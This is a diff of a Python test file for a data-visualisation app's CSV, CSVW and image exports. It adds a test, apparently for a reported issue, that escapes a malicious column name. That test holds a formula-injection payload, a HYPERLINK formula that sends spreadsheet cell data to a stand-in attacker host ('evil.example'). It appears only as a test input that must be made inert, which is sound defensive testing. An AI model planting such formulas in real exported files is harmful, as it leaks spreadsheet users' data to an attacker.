@@ -4,7 +4,6 @@ committed parquet files, read here with pandas."""
 
 from __future__ import annotations
 
-import io
 import json
 import math
 import re
@@ -21,7 +20,6 @@ from components.exports import (
     LICENCE_LINE,
     OS_LINE,
     Figure,
-    comment_line_count,
     figure_data,
     figure_exports,
     source_lines,
@@ -31,6 +29,7 @@ from components.legend import legend_html
 from components.palettes import NO_DATA, VIRIDIS_5
 from loaders.errors import SourceFormatError
 from loaders.uploads import boundary_web_geojson, read_boundary_upload, read_values_upload
+from tests.export_checks import check_csvw, could_run_as_formula, csv_cells, read_plain_csv
 from tests.loaders.bad_files import csv_bytes, xlsx_bytes
 
 REPO = Path(__file__).resolve().parents[2]
@@ -317,9 +316,7 @@ def files_of(figure: Figure) -> dict[str, bytes]:
 
 
 def read_export_csv(data: bytes) -> pd.DataFrame:
-    text = data.decode("utf-8")
-    return pd.read_csv(io.StringIO(text), skiprows=comment_line_count(text), keep_default_na=False,
-                       na_values=[""], dtype={"status": str})
+    return read_plain_csv(data)
 
 
 def test_bar_figure_exports_round_trip_to_the_uploaded_values() -> None:
@@ -335,7 +332,8 @@ def test_bar_figure_exports_round_trip_to_the_uploaded_values() -> None:
     assert source_lines(figure)[1].startswith("Your values: under their owner's terms, not the Open Government")
     assert "Crown copyright" not in source_lines(figure)[1]  # no boundaries on a bar chart
     files = files_of(figure)
-    assert list(files) == ["Image (PNG, 2x)", "Image (SVG)", "Vega-Lite JSON", "Data (CSV)", "Data (XLSX)"]
+    assert list(files) == ["Image (PNG, 2x)", "Image (SVG)", "Vega-Lite JSON", "Data (CSV)",
+                           "Data description (CSVW, JSON)", "Data (XLSX)"]
     assert files["Image (PNG, 2x)"][:8] == b"\x89PNG\r\n\x1a\n"
     svg = files["Image (SVG)"].decode("utf-8")
     assert "mine.csv" in svg and "◄ selected" in svg and "Source: ONS" not in svg
@@ -392,18 +390,28 @@ def test_map_figure_is_the_static_twin_of_the_uploaded_map() -> None:
     assert view.note == "Five classes with equal numbers of areas (quantiles)."
 
 
-def test_matched_csv_is_attributed_and_formula_safe() -> None:
+def test_matched_csv_is_plain_described_and_formula_safe() -> None:
     values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
     values.loc[1, "name_in_file"] = "=HYPERLINK(\"http://x\")"
-    text = yd.matched_csv(values, source="my.csv", level="lep", column="Score", period=2022).decode("utf-8")
-    lines = text.splitlines()
-    assert lines[0] == "# Your data: my.csv (uploaded, not checked by us)"
-    assert "Open Government Licence v3.0" in lines[1]
-    body = pd.read_csv(pd.io.common.StringIO("\n".join(lines[2:])))
+    data = yd.matched_csv(values, level="lep", column="Score", period=2022)
+    body = read_plain_csv(data)
     assert body["Score"].tolist() == list(map(float, range(10)))
     assert body["level"].unique().tolist() == ["lep"] and body["period"].unique().tolist() == [2022]
     assert body.loc[1, "name_in_file"].startswith("'=")
     assert body.loc[0, "name_in_file"] == XSS
+    document = check_csvw(data, yd.matched_csvw(values, source="my.csv", level="lep", column="Score", period=2022,
+                                                csv_name="m.csv"), "m.csv")
+    assert "Your data: my.csv (uploaded, not checked by us)" in document["dc:description"]
+    assert "Open Government Licence v3.0" in document["dc:source"]
+
+
+def test_a_formula_as_the_users_column_name_is_made_inert() -> None:
+    """Issue 12, item 5: the header was renamed to the user's column name and written unescaped."""
+    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
+    column = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    data = yd.matched_csv(values, level="lep", column=column, period=2022)
+    assert "'" + column in read_plain_csv(data).columns
+    assert not [cell for cell in csv_cells(data) if could_run_as_formula(cell)]
 
 
 # --- helpers ---------------------------------------------------------------------------------------------
